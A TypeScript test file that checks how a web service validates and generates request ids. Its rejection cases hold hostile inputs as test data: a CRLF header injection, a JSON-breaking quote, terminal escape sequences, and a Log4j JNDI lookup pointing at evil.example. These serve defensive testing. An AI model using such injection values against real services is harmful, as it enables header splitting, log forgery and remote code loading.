import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { acceptRequestId, createRequestIds } from '../../src/http/request-id.ts'

describe('acceptRequestId', () => {
  it.each([
    '7f1b2c8e-0d3a-4e7b-9a55-0c1d2e3f4a5b',
    'Root=1-67891233-abcdef012345678912345678',
    'a',
    'svc:web+1/2@host.example',
    'x'.repeat(128),
  ])('keeps %s', (id) => {
    expect(acceptRequestId(id)).toBe(id)
  })

  it.each([
    ['nothing', undefined],
    ['the empty string', ''],
    ['129 characters', 'x'.repeat(129)],
    ['a header injection', 'a\r\nset-cookie: x=1'],
    ['a line feed at the end', 'abc\n'],
    ['a space', 'a b'],
    ['a quote that would end a JSON string', 'a","level":"error'],
    ['a terminal sequence', '\u001b[2Jabc'],
    ['an 8-bit terminal sequence', '\u009b2Jabc'],
    ['text beyond ASCII', 'ünïcode'],
    ['a log4j look-up', '$' + '{jndi:ldap://evil.example/a}'],
    ['a GitHub token', 'ghp_16C7e42F292c6912E7710c838347Ae178B4a'],
    ['several ids in one line', 'a, b'],
  ])('ignores %s', (_, id) => {
    expect(acceptRequestId(id)).toBeUndefined()
  })

  it('never lets anything through that it would not let through again, or that is not plain ASCII', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 140 }), (id) => {
        const accepted = acceptRequestId(id)
        if (accepted !== undefined) {
          expect(accepted).toBe(id)
          expect(
            [...id].every((character) => character > ' ' && character <= 'z' && !'"\'\\<>;,_`'.includes(character)),
          ).toBe(true)
          expect(id.length).toBeLessThanOrEqual(128)
        }
      }),
      { numRuns: 200 },
    )
  })
})

describe('createRequestIds', () => {
  it('makes ids that are acceptable, differ, and share a prefix', () => {
    const next = createRequestIds()
    const ids = Array.from({ length: 1000 }, () => next())
    expect(new Set(ids).size).toBe(1000)
    expect(new Set(ids.map((id) => id.split('-')[0])).size).toBe(1)
    for (const id of ids) expect(acceptRequestId(id)).toBe(id)
    expect(ids[0]).toMatch(/^[0-9a-z]{12}-0$/)
  })

  it('gives two generators different prefixes', () => {
    expect(createRequestIds()()).not.toBe(createRequestIds()())
  })
})
